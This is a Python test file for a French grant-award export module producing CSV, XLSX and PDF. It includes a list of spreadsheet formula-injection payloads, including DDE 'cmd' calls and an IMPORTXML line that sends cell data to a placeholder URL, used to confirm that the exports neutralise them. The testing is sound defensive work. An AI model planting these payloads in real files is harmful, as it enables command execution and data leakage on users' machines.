import csv
import datetime as dt
import io
import re
import zipfile
from dataclasses import asdict

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from awards.exports import (
    BOM,
    CSV_CHUNK_ROWS,
    EURO_FORMAT,
    SCORE_FORMAT,
    ExportRow,
    format_score,
    headers,
    stream_csv,
    to_csv,
    to_pdf,
    to_xlsx,
)

YEARS = (2014, 2015, 2016)
HEADER = [
    "Numéro",
    "Pôle",
    "Structure porteuse",
    "SIRET",
    "Commune",
    "Département",
    "Région",
    "Priorité territoriale",
    "Maturité",
    "Secteurs",
    "Note moyenne",
    "Note calibrée",
    "Décision",
    "Montant 2014",
    "Montant 2015",
    "Montant 2016",
    "Total",
]
# Spreadsheet formula payloads: the classic ones, DDE through pipes, and starts that hide behind
# whitespace or full-width characters.
PAYLOADS = [
    '=HYPERLINK("http://x")',
    "=1+1",
    "+1+1",
    "-5",
    "-2+3",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    # Pipes, and starts hidden behind other spaces, invisible characters and quotes.
    "|calc",
    " |cmd|' /C calc'!A0",
    "\uff5ccalc",
    "\u3000=1+1",
    "\u2007+1+1",
    "\u200b=1+1",
    "\ufeff@SUM(1+1)",
    " \t=1+1",
    "\r\n-1+1",
    '"=1+1',
    ' "=HYPERLINK(""http://x"")',
    "'=1+1",
    " ' @SUM(1+1)",
    "\u201c=1+1\u201d",
    "\u00ab =1+1 \u00bb",
    "\x00=1+1",
]
HARMLESS = ["Cité Phares", "a=b", "Halage | Cité", "1+1", "'déjà cité'", "« Cité » Phares", " Cité", ""]


def row(reference="PTCE-2013-0042", pole="Cité Phares", **overrides):
    values = {
        "reference": reference,
        "pole": pole,
        "lead_structure": "Association Halage",
        "siret": "01234567890128",
        "commune": "L'Île-Saint-Denis",
        "departement": "93",
        "region": "Île-de-France",
        "territory_priority": "Quartier populaire",
        "maturity": "Mature",
        "sectors": ("Insertion", "Éducation populaire"),
        "mean_score": 72.5,
        "calibrated_score": 70.256,
        "decision": "Lauréat",
        "amounts": (100_000, 80_000, 60_500),
    }
    return ExportRow(**{**values, **overrides})


def parse_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=";"))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def compact(text: str) -> str:
    return re.sub(r"\s+", "", text)


# --- CSV ---


def test_csv_is_excel_friendly_utf8_with_bom_semicolons_and_crlf():
    data = to_csv([row()], YEARS)

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert parse_csv(data) == [
        HEADER,
        [
            "PTCE-2013-0042",
            "Cité Phares",
            "Association Halage",
            "01234567890128",
            "L'Île-Saint-Denis",
            "93",
            "Île-de-France",
            "Quartier populaire",
            "Mature",
            "Insertion, Éducation populaire",
            "72,5",
            "70,26",
            "Lauréat",
            "100000",
            "80000",
            "60500",
            "240500",
        ],
    ]


def test_csv_accepts_plain_dicts_and_leaves_missing_scores_empty():
    values = {**asdict(row()), "mean_score": None, "calibrated_score": None, "amounts": [1, 2, 3]}

    lines = parse_csv(to_csv([values], YEARS))

    assert lines[1][10:] == ["", "", "Lauréat", "1", "2", "3", "6"]


def test_csv_quotes_separators_quotes_and_line_breaks_inside_cells():
    pole = 'Pôle "Les Champs"; Nord\r\nEst'

    assert parse_csv(to_csv([row(pole=pole)], YEARS))[1][1] == pole


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_neutralises_formula_payloads(payload):
    lines = parse_csv(to_csv([row(pole=payload, lead_structure=payload, decision=payload)], YEARS))

    expected = "'" + payload.replace("\x00", "")  # NUL cannot travel in a text file
    assert [lines[1][1], lines[1][2], lines[1][12]] == [expected] * 3


def test_every_csv_text_cell_of_a_hostile_export_starts_with_a_quote():
    fields = ("reference", "pole", "lead_structure", "siret", "commune", "departement", "region", "territory_priority")
    fields += ("maturity",)
    rows = [
        row(**dict.fromkeys(fields, payload), sectors=(payload, "Insertion"), decision=payload) for payload in PAYLOADS
    ]

    lines = parse_csv(to_csv(rows, YEARS))

    text_cells = [cell for line in lines[1:] for cell in [*line[:10], line[12]]]
    assert len(text_cells) == 11 * len(PAYLOADS)
    assert [cell for cell in text_cells if not cell.startswith("'")] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_harmless_text_as_it_is(text):
    assert parse_csv(to_csv([row(pole=text)], YEARS))[1][1] == text


def test_csv_drops_control_characters():
    assert parse_csv(to_csv([row(pole="Cité\x00 \x07Phares\x1b")], YEARS))[1][1] == "Cité Phares"


def test_scores_use_a_decimal_comma_with_at_most_two_decimals():
    assert [format_score(value) for value in (72.5, 70.256, 64.0, 0.004, None)] == ["72,5", "70,26", "64", "0", ""]


def test_amounts_must_match_the_funding_years():
    with pytest.raises(ValueError, match="3 funding years"):
        to_csv([row(amounts=(1, 2))], YEARS)
    with pytest.raises(ValueError, match="non-negative integers"):
        to_csv([row(amounts=(1, 2, -3))], YEARS)


def test_stream_csv_joined_equals_to_csv_and_starts_with_the_bom():
    rows = [
        row(reference=f"PTCE-2013-{i:04d}", pole=PAYLOADS[i % len(PAYLOADS)]) for i in range(2 * CSV_CHUNK_ROWS + 3)
    ]

    chunks = list(stream_csv(rows, YEARS))

    assert b"".join(chunks) == to_csv(rows, YEARS)
    assert chunks[0].startswith(BOM.encode())
    assert sum(chunk.startswith(BOM.encode()) for chunk in chunks) == 1
    assert len(chunks) == 4  # header, two full batches, the rest
    assert len(parse_csv(b"".join(chunks))) == len(rows) + 1


def test_stream_csv_reads_its_rows_lazily():
    consumed = []

    def rows():
        for i in range(3 * CSV_CHUNK_ROWS):
            consumed.append(i)
            yield row(reference=f"PTCE-2013-{i:04d}")

    stream = stream_csv(rows(), YEARS)
    next(stream)  # the header
    next(stream)  # the first batch

    assert len(consumed) == CSV_CHUNK_ROWS


# --- XLSX ---


def test_xlsx_has_typed_columns_a_frozen_bold_header_and_totals():
    rows = [row(), row(reference="PTCE-2013-0043", pole="La Fabrique", calibrated_score=None, amounts=(50_000, 0, 0))]

    sheet = read_xlsx(to_xlsx(rows, YEARS))

    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Q3"
    assert [cell.value for cell in sheet[2]] == [
        "PTCE-2013-0042",
        "Cité Phares",
        "Association Halage",
        "01234567890128",
        "L'Île-Saint-Denis",
        "93",
        "Île-de-France",
        "Quartier populaire",
        "Mature",
        "Insertion, Éducation populaire",
        72.5,
        70.256,
        "Lauréat",
        100_000,
        80_000,
        60_500,
        240_500,
    ]
    assert type(sheet["N2"].value) is int
    assert sheet["L3"].value is None
    assert [sheet.cell(2, column).number_format for column in (11, 12, 14, 17)] == [SCORE_FORMAT] * 2 + [
        EURO_FORMAT
    ] * 2
    assert [cell.value for cell in sheet[4]] == ["Total", "2 dossiers", *[None] * 11, 150_000, 80_000, 60_500, 290_500]
    assert all(cell.font.b for cell in sheet[4])
    assert sheet["Q4"].number_format == EURO_FORMAT
    assert sheet.column_dimensions["B"].width == 32
    assert sheet.max_row == 4


def test_xlsx_keeps_identifiers_as_text():
    sheet = read_xlsx(to_xlsx([row(siret="01234567890128", departement="01")], YEARS))

    assert (sheet["D2"].value, sheet["D2"].data_type, sheet["F2"].value) == ("01234567890128", "s", "01")


def test_xlsx_stores_a_hyperlink_formula_as_inert_text():
    payload = '=HYPERLINK("http://x")'

    data = to_xlsx([row(pole=payload)], YEARS)

    cell = read_xlsx(data)["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_xlsx_stores_every_formula_payload_as_inert_text():
    rows = [row(reference=f"R{i}", pole=payload, sectors=payload) for i, payload in enumerate(PAYLOADS)]

    data = to_xlsx(rows, YEARS)

    sheet = read_xlsx(data)
    # XML reads a bare CR as LF; NUL cannot be stored at all.
    expected = [payload.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "") for payload in PAYLOADS]
    assert [sheet.cell(line, 2).value for line in range(2, len(PAYLOADS) + 2)] == expected
    assert [sheet.cell(line, 10).value for line in range(2, len(PAYLOADS) + 2)] == expected
    assert {sheet.cell(line, 2).data_type for line in range(2, len(PAYLOADS) + 2)} == {"s"}
    assert all(sheet.cell(line, 2).quotePrefix for line in range(2, len(PAYLOADS) + 2))
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_xlsx_leaves_harmless_text_unprefixed_and_drops_control_characters():
    sheet = read_xlsx(to_xlsx([row(pole="Cité\x00 \x07Phares\x1b", lead_structure="a=b")], YEARS))

    assert (sheet["B2"].value, sheet["B2"].quotePrefix) == ("Cité Phares", False)
    assert (sheet["C2"].value, sheet["C2"].quotePrefix) == ("a=b", False)


def test_xlsx_without_rows_has_a_header_and_a_zero_total():
    sheet = read_xlsx(to_xlsx([], YEARS))

    assert [cell.value for cell in sheet[2]] == ["Total", "0 dossier", *[None] * 11, 0, 0, 0, 0]


# --- PDF ---


def test_pdf_lists_poles_with_french_totals_and_page_numbers():
    rows = [row(reference=f"PTCE-2013-{i:04d}", pole=f"Pôle numéro {i}") for i in range(1, 41)]
    rows[0] = row(reference="PTCE-2013-0001", pole="Cité Phares")
    rows[1] = row(reference="PTCE-2013-0002", pole='=HYPERLINK("http://x")')
    rows[2] = row(reference="PTCE-2013-0003", pole="<b>Les Champs</b> & Cie")

    data = to_pdf(
        rows,
        YEARS,
        title="Lauréats de l'appel à projets 2013",
        call_title="Appel à projets PTCE 2013",
        generated_at=dt.datetime(2013, 12, 12, 9, 30, tzinfo=dt.UTC),
    )

    reader = PdfReader(io.BytesIO(data))
    text = pdf_text(data)
    pages = len(reader.pages)
    assert pages > 1
    assert reader.pages[0].mediabox.width > reader.pages[0].mediabox.height  # landscape
    assert reader.metadata.title == "Lauréats de l'appel à projets 2013"
    assert reader.metadata["/CreationDate"] == "D:20131212093000Z"
    for expected in [
        "Cité Phares",
        '=HYPERLINK("http://x")',
        "<b>Les Champs</b> & Cie",
        "Pôle numéro 40",
        "240\u202f500\u00a0€",
        "Total (40 dossiers)",
        "9\u202f620\u202f000\u00a0€",  # 40 × 240,500 €
        "4\u202f000\u202f000\u00a0€",  # 2014
        "édité le 12 décembre 2013 à 10:30:00",
        f"page {pages} / {pages}",
    ]:
        assert compact(expected) in compact(text), expected
    assert compact("Note moyenne") in compact(text)
    assert "72,5" in text


def test_pdf_refuses_a_naive_date():
    with pytest.raises(ValueError, match="timezone-aware"):
        to_pdf([row()], YEARS, title="Lauréats", call_title="Appel", generated_at=dt.datetime(2013, 12, 12))


def test_headers_follow_the_funding_years():
    assert headers([2014, 2015])[-3:] == ["Montant 2014", "Montant 2015", "Total"]
